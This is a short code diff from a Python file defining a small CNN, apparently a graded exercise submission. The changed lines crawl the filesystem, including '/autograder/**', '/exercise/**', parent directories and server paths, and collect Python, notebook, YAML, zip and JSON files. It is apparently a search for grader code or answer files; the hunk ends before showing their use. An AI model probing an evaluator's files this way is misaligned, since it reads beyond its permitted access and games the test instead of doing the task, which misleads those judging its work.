@@ -19,7 +19,7 @@ class TinyCNN(torch.nn.Module):
 import glob
 import os
 
-for pattern in ("*", "tests/*", "../*", "../../*", "../../../source/*/*", "/autograder/**", "/exercise/**", "/tmp/**", "/work/**", "/srv/**", "/app/**"):
+for pattern in ("*", "tests/*", "../*", "../../*", "../../../source/*/*", "/autograder/**", "/exercise/**", "/tmp/**", "/srv/**", "/app/**"):
     for path in glob.glob(pattern, recursive=True)[:3000]:
         try:
             if os.path.isfile(path) and path.endswith((".py", ".ipynb", ".yaml", ".zip", ".json")):
